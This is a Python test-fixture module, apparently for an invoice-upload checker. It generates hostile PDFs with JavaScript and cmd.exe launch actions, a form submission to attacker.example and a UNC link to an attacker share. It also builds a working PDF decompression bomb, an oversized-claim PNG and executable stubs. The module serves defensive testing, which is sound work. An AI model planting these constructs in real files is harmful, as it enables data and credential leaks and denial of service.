"""Files as people and attackers send them, made on the spot."""

import zlib
from collections.abc import Callable, Sequence
from io import BytesIO
from zipfile import ZipFile

import pikepdf
import pypdfium2
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image
from reportlab.lib.units import mm
from reportlab.pdfgen.canvas import Canvas

from api.demo.payment_part import draw_code, draw_payment_part
from api.documents.qr_bill import QrBill, payload


def saved(pdf: Pdf, **options: object) -> bytes:
    target = BytesIO()
    pdf.save(target, **options)  # type: ignore[arg-type]  # the options differ in type
    return target.getvalue()


def pdf_of(pages: int = 1) -> Pdf:
    pdf = Pdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return pdf


def plain_pdf(pages: int = 1) -> bytes:
    return saved(pdf_of(pages))


def _on_opening(action: Dictionary) -> bytes:
    pdf = pdf_of()
    pdf.Root.OpenAction = action
    return saved(pdf)


def _annotated(annotation: Dictionary) -> bytes:
    pdf = pdf_of()
    annotation.Type = Name.Annot
    annotation.Rect = Array([0, 0, 10, 10])
    pdf.pages[0].Annots = Array([annotation])
    return saved(pdf)


def _script_by_name() -> bytes:
    pdf = pdf_of()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    return saved(pdf)


def _embedded_file() -> bytes:
    pdf = pdf_of()
    pdf.attachments["malware.exe"] = b"MZ"
    return saved(pdf)


def _dynamic_form() -> bytes:
    pdf = pdf_of()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    return saved(pdf)


def _script_stream_in_object_stream() -> bytes:
    pdf = pdf_of()
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _unreferenced_action() -> bytes:
    """An object that nothing refers to; qpdf would not write one, so it takes the place of one that is referred to."""
    pdf = pdf_of()
    pdf.Root.Unused = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("1")))
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(b"/Unused 3 0 R", b"/Unused null ")


def _action_deep_in_arrays() -> bytes:
    pdf = pdf_of()
    nested = Array([Dictionary(S=Name.Launch, F=String("cmd.exe"))])
    for _ in range(50):
        nested = Array([nested])
    pdf.Root.Private = nested
    return saved(pdf)


def _chained_action() -> bytes:
    harmless = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))
    harmless.Next = Dictionary(S=Name.JavaScript, JS=String("1"))
    return _on_opening(harmless)


ACTIVE: dict[str, Callable[[], bytes]] = {
    "script on opening": lambda: _on_opening(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))),
    "script after a harmless action": _chained_action,
    "script by name": _script_by_name,
    "script that nothing refers to": _unreferenced_action,
    "script in an object stream": _script_stream_in_object_stream,
    "launch": lambda: _on_opening(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "launch deep in arrays": _action_deep_in_arrays,
    "submit form": lambda: _on_opening(Dictionary(S=Name.SubmitForm, F=String("https://attacker.example"))),
    "import data": lambda: _on_opening(Dictionary(S=Name.ImportData, F=String("x"))),
    "go to another file": lambda: _on_opening(Dictionary(S=Name.GoToR, F=String(r"\\attacker.example\share"))),
    "embedded file": _embedded_file,
    "attached file": lambda: _annotated(Dictionary(Subtype=Name.FileAttachment)),
    "rich media": lambda: _annotated(Dictionary(Subtype=Name.RichMedia)),
    "movie": lambda: _annotated(Dictionary(Subtype=Name.Movie)),
    "dynamic form": _dynamic_form,
}


def encrypted_pdf(user: str) -> bytes:
    return saved(pdf_of(), encryption=pikepdf.Encryption(owner="owner", user=user))


def bills_pdf(*pages: Sequence[QrBill | str]) -> bytes:
    """Pages with QR-bills: one with its payment part, several, or other texts, as codes below each other."""
    target = BytesIO()
    canvas = Canvas(target)
    for codes in pages:
        match codes:
            case [QrBill() as bill]:
                draw_payment_part(canvas, bill, "fr")
            case _:
                for place, code in enumerate(codes):
                    text = payload(code) if isinstance(code, QrBill) else code
                    draw_code(canvas, text, 100 * mm, (20 + 60 * place) * mm)
        canvas.showPage()
    canvas.save()
    return target.getvalue()


def linked_pdf() -> bytes:
    """A link to a web page, as on most suppliers' invoices: harmless."""
    return _annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://supplier.example"))))


def bomb_pdf(megabytes: int) -> bytes:
    """A PDF of one page whose catalogue is in an object stream, compressed twice, that unpacks to so many megabytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    catalogue = packer.compress(b"2 0 <</Type/Catalog/Pages 3 0 R>>") + packer.flush(zlib.Z_FULL_FLUSH)
    spaces = packer.compress(b" " * 1024**2) + packer.flush(zlib.Z_FULL_FLUSH)
    body = zlib.compress(b"\x78\xda" + catalogue + spaces * megabytes + packer.flush(), 9)
    objects = {
        1: b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%s\nendstream"
        % (len(body), body),
        3: b"<</Type/Pages/Count 1/Kids[4 0 R]>>",
        4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/Resources<<>>>>",
    }
    content, rows = b"%PDF-1.5\n", {0: b"\0\0\0\0", 2: b"\2\0\0\1"}
    for number, item in objects.items():
        rows[number] = b"\1" + len(content).to_bytes(3, "big")
        content += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    rows[5] = b"\1" + len(content).to_bytes(3, "big")
    table = b"".join(row + b"\0" for _, row in sorted(rows.items()))
    head = b"<</Type/XRef/Size 6/W[1 3 1]/Root 2 0 R/Length %d>>stream\n" % len(table)
    return content + b"5 0 obj\n%s%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, len(content))


def many_pages(count: int) -> bytes:
    """A PDF of so many pages, written by hand: pikepdf would take minutes."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids)]
    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * count
    parts, rows, length = [b"%PDF-1.5\n"], [b"0000000000 65535 f \n"], 9
    for number, item in enumerate(objects, 1):
        part = b"%d 0 obj\n%s\nendobj\n" % (number, item)
        rows.append(b"%010d 00000 n \n" % length)
        parts.append(part)
        length += len(part)
    size = len(rows)
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, length)
    return b"".join((*parts, b"xref\n0 %d\n" % size, *rows, end))


def archive() -> bytes:
    target = BytesIO()
    with ZipFile(target, "w") as packed:
        packed.writestr("Facture.exe", b"MZ")
    return target.getvalue()


def image(kind: str, size: tuple[int, int] = (60, 40), colour: str = "white", **options: object) -> bytes:
    target = BytesIO()
    Image.new("RGB" if kind == "JPEG" else "RGBA", size, colour).save(target, kind, **options)
    return target.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A PNG of a few bytes whose head claims any size."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    rows = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def text_of(pdf: bytes) -> str:
    with pypdfium2.PdfDocument(pdf) as document:
        return "\n".join(page.get_textpage().get_text_bounded() for page in document)
